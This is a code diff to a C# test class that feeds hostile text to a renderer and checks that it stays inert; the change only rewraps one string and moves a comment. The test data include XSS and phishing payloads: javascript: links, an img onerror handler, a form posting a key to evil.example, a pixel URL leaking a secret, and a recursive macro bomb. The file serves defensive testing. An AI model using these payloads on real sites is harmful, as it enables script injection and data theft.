@@ -48,7 +48,8 @@ public sealed class HostileTextTests(PageFixture fixture)
         "<form action=https://evil.example><input name=key><button>Enter your key</button></form>",
         "$\\href{javascript:window.hacked=1}{x}$",
         "$\\url{javascript:window.hacked=1}$ $\\includegraphics{https://evil.example/pixel.png?secret}$",
-        "$\\htmlStyle{background:url(https://evil.example/)}{x}$ $\\style{color:red}{x}$ $\\class{empty}{x}$ $\\id{sidebar}{x}$ $\\data{key=1}{x}$",
+        "$\\htmlStyle{background:url(https://evil.example/)}{x}$ $\\style{color:red}{x}$ $\\class{empty}{x}$ $\\id{sidebar}{x}$ " +
+            "$\\data{key=1}{x}$",
         "$$\\text{<img src=x onerror=window.hacked=1>}$$",
         "$\\color{url(https://evil.example/)}{x}$ $\\label{a}\\ref{a}$ $\\cancelto{1}{x}$",
         "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\text}{\\href{https://evil.example}}\\text{x}$",
@@ -99,7 +100,8 @@ public sealed class HostileTextTests(PageFixture fixture)
         Repeat("[a]", 30_000) + "\n\n[a]: /a",
     ];
 
-    private static readonly TimeSpan Timeout = TimeSpan.FromSeconds(20); // Per input; a slow parser fails the test instead of blocking the run.
+    // Per input; a slow parser fails the test instead of blocking the run.
+    private static readonly TimeSpan Timeout = TimeSpan.FromSeconds(20);
 
     [Fact]
     public async Task Reply_OfAttacks_StaysText()
